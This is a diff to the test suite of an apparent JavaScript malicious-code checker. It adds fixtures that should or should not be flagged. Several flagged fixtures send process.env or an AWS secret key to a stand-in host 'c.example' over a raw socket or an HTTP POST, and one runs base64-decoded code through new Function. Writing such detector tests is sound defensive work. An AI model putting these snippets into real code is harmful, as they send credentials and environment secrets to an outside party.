@@ -199,6 +199,12 @@ class JavaScriptValueChecker(LanguageChecker):
         Invalid("const http = require('http');\nconst req = http.request({ host: 'c.example', method: 'POST' });\n"
                 "const payload = JSON.stringify({ ...process.env });\nreq.write(payload);\nreq.end();\n", "BDL402", 4,
                 path="index.js"),
+        # a socket no client call made (`new net.Socket()`), and one written in a function above it
+        Invalid("const net = require('net');\nconst s = new net.Socket();\ns.connect(4444, 'c.example');\n"
+                "s.write(process.env.AWS_SECRET_ACCESS_KEY);\n", "BDL402", 4, path="index.js"),
+        Invalid("const net = require('net');\nfunction flush() {\n  sock.write(JSON.stringify(process.env));\n}\n"
+                "const sock = net.connect(4444, 'c.example');\nsock.on('connect', flush);\n", "BDL402", 3,
+                path="index.js"),
         # BDL501/502: decoded or fetched code run, through variables and a stored Function
         Invalid("const P = 'Y29uc29sZS5sb2coMSk=';\nconst code = Buffer.from(P, 'base64').toString();\n"
                 "const run = new Function(code);\nrun();\n", "BDL501", 4, path="index.js"),
@@ -423,6 +429,10 @@ class JavaScriptValueChecker(LanguageChecker):
               "exports.publish = () => fetch('https://registry.example/publish', { method: 'PUT', body });\n", "BDL402", path="publish.js"),
         Valid("const fn = new Function('a', 'b', 'return a + b');\nconst img = Buffer.from(data, 'base64');\n"
               "fs.writeFileSync('out.png', img);\n", "BDL501", path="index.js"),
+        Valid("var g = (function () { return this; })() || Function('return this')();\n"
+              "var s = String.fromCharCode(0x41);\n", "BDL501", path="bundle.js"),
+        Valid("const net = require('net');\nconst s = new net.Socket();\ns.connect(6379, 'localhost');\n"
+              "s.write('PING\\r\\n');\n", "BDL402", path="health.js"),
         Valid("exports.load = () => fetch('/api/items').then(r => r.json()).then(items => render(items));\n", "BDL502", path="app.js"),
         Valid("const cp = require('child_process');\ncp.execFile('git', ['status']);\n"
               "const handlers = { a: () => 1 };\nhandlers[name]();\n", "BDL503", path="index.js"),
